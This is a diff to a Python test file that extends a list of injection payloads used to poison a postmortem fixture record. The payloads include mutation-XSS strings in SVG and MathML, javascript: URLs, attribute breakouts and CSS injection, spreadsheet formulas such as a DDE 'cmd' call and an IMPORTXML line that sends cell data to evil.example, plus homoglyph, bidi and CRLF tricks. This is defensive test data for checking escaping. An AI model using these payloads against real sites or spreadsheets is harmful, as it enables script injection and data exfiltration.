@@ -2,7 +2,8 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import itertools
+from collections.abc import Callable, Sequence
 from typing import Any, cast
 
 from tests.document.incident import postmortem
@@ -27,6 +28,28 @@ PAYLOADS = [
     "\u202egnp.exe", "\u2066\u2069hidden\u200b\u200d\u2060\ufeff", "\x1b]52;c;ZXZpbA==\x07\x1b[31mred", "\x9b31m", "\x00\x08\x7f",
     "\ud800 lone", "\U000e0041\U000e0042", "=HYPERLINK(\"https://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)",
     "<noscript><p title='</noscript><img src=x onerror=alert(28)>'>", "<xmp><script>alert(29)</script>", "<plaintext>",
+    # pictures and formulas that hold more than they show
+    "<svg><foreignObject><img src=x onerror=alert(31)></foreignObject></svg>", "<svg><animate onbegin=alert(32) attributeName=x dur=1s>",
+    "<svg><set attributeName=href to=javascript:alert(33)>", "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(34)/>#x'/>",
+    "<math><annotation-xml encoding='text/html'><script>alert(35)</script></annotation-xml></math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(36)>x</maction></math>",
+    # text that becomes markup only when it is parsed for the second time
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(37)&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(38)>", "<svg></p><style><a id='</style><img src=1 onerror=alert(39)>'>",
+    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(40)>'>", "<table><td><svg><desc><td><img src=x onerror=alert(41)>",
+    "<noembed><img title='</noembed><img src=x onerror=alert(42)>'>", "<listing>&lt;img src=x onerror=alert(43)&gt;</listing>",
+    # addresses
+    "vbscript:msgbox(44)", "java\tscript:alert(45)", "\x01javascript:alert(46)", "jAvAsCrIpT&colon;alert(47)", "data:text/html;base64,PHNjcmlwdD4=",
+    "view-source:https://evil.example", "//evil.example/x", "https://good.example@evil.example/",
+    # ways out of an attribute, a style, the data block
+    '" onclick=alert(48) x="', "' style='position:fixed;inset:0;background:red", "`onerror=alert(49)", '"/><script>alert(50)</script>', 'x" id="main" data-ref="r-x',
+    "<form name=getElementById><input name=body>", "<a id=main><a id=main name=children>", "x;background:url(//evil.example/a)", "expression(alert(51))",
+    "\\3c style>*{color:red}", "</style\n>", "</script\n>", "</ScRiPt/x>", "]});alert(52)//", '"}}};alert(53)//', "\\u003c/script>", "\u2029alert(54)//", "__proto__", "constructor",
+    # cells of a sheet
+    "=1+1", "-2+3", "\t=1+1", "\r=1+1", "\uff1d1+1", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A1),\"//a\")", "@SUM(1+1)*cmd|' /C calc'!A0",
+    # letters that hide, pretend or pile up
+    "p\u0430yments-api", "\u0391dmin", "\u061c\u180e\u00ad\ufff9\ufffb", "\U0001d173\u115f\u2800\u3164", "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308", "\u202dabc\u202c\u2067def\u2069",
+    "\u05d0\u05d1\u05d2 right to left \u0627\u0644", "\u200b" * 40,
     "\r\nSet-Cookie: a=b", "a" * 250, "e" + "\u0301" * 30, "<a href=data:text/html,<script>alert(30)</script>>",
 ]  # fmt: skip
 KEPT = words(
@@ -43,6 +66,19 @@ def over(value: Any, change: Callable[[str], str], kept: frozenset[str], key: st
     if isinstance(value, list | tuple):
         return [over(item, change, kept, key) for item in value]
     return value
+
+
+def dealt(payloads: Sequence[str], first: int) -> tuple[PostmortemJson, list[str]]:
+    """The record with another payload in every text, and those that were used. first: the number of the first one."""
+    turn = itertools.count(first)
+    used: list[str] = []
+
+    def one(text: str) -> str:
+        if text:
+            used.append(payloads[next(turn) % len(payloads)])
+        return used[-1] if text else ""
+
+    return cast(PostmortemJson, over(postmortem(), one, KEPT)), used
 
 
 def poisoned(payload: str) -> PostmortemJson:
